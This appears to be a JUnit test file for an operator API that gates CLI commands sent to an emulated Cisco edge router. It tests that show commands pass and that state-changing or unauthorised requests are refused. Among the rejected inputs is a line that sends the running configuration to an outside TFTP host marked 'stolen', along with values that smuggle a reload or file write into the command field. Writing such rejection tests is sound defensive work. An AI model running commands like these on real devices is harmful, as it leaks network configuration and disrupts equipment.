package org.touchpaper.lnsap;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The operator API for a campus edge, a Cisco with a command line. */
class OperatorTest {

  @TempDir static Path folder;
  private static LnsapFixture lnsap;
  private static HttpClient http;

  @BeforeAll
  static void start() {
    lnsap = new LnsapFixture(folder);
    http = HttpClient.newHttpClient();
  }

  @AfterAll
  static void stop() {
    http.close();
    lnsap.stop();
  }

  @ParameterizedTest
  @ValueSource(strings = {"show version", "show running-config"})
  void permitsShowCommands(String line) throws Exception {
    assertThat(send(line, false).body()).contains("\"outcome\":\"COMPLETED\"");
  }

  /** The emulated edge supports no filters; its error shows that it received the command. */
  @Test
  void leavesFilteringToTheElement() throws Exception {
    assertThat(send("show version | include restarted", false).body()).contains("DENIED");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "vlan 4000",
        "show running-config | redirect tftp://198.51.100.1/stolen",
        "show version | include x | tee flash:x",
        "show version\\nreload",
        "conf t"
      })
  void refusesCommandsThatMayHaveEffects(String line) throws Exception {
    assertThat(send(line, false).statusCode()).isEqualTo(422);
    assertThat(lnsap.names("VLAN")).isEmpty();
  }

  @Test
  void configuresWhenMarkedAsAWrite() throws Exception {
    assertThat(send("vlan 4000\\nname SITE", true).body()).contains("COMPLETED");
    assertThat(send("show vlan id 4000", false).body()).contains("SITE");
    assertThat(send("no vlan 4000", true).body()).contains("COMPLETED");
    assertThat(send("show vlan id 4000", false).body()).doesNotContain("SITE");
  }

  @Test
  void reportsThatTheLinesBeforeARejectedOneAreInForce() throws Exception {
    assertThat(send("vlan 4001\\nnonsense", true).body()).contains("PARTIAL", "at: nonsense");
    assertThat(send("show vlan id 4001", false).body()).contains("4001");
    assertThat(send("nonsense\\nno vlan 4001", true).body()).contains("DENIED");
    assertThat(send("no vlan 4001", true).body()).contains("COMPLETED");
  }

  /** Whoever books here, or cuts, may not change elements. */
  @ParameterizedTest
  @CsvSource({"onlooker, ''", "desk, ' 2'"})
  void refusesToRestoreForAPeerWithoutTheRoleOperator(String peer, String suffix) throws Exception {
    var before = lnsap.edge().listEntities();
    var request =
        HttpRequest.newBuilder(
                URI.create("http://127.0.0.1:" + lnsap.port() + "/elements/EDGE-UCL/restore"))
            .header("Authorization", "Bearer " + LnsapFixture.SECRET + suffix)
            .header("Touchpaper-Peer", peer)
            .header("Content-Type", "application/json")
            .POST(BodyPublishers.ofString("{\"operator\":\"olga\"}"))
            .build();
    for (var time = 1; time <= 2; time++) {
      assertThat(http.send(request, BodyHandlers.ofString()).statusCode()).isEqualTo(403);
    }
    assertThat(lnsap.edge().listEntities()).isEqualTo(before);
  }

  private static HttpResponse<String> send(String command, boolean write)
      throws IOException, InterruptedException {
    var login = "operator:operator".getBytes(StandardCharsets.UTF_8);
    var order = "{\"command\":\"%s\",\"write\":%s}".formatted(command, write);
    return http.send(
        HttpRequest.newBuilder(
                URI.create(
                    "http://127.0.0.1:" + lnsap.port() + "/api/v1/elements/EDGE-UCL/commands"))
            .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(login))
            .header("Content-Type", "application/json")
            .POST(BodyPublishers.ofString(order))
            .build(),
        BodyHandlers.ofString());
  }
}
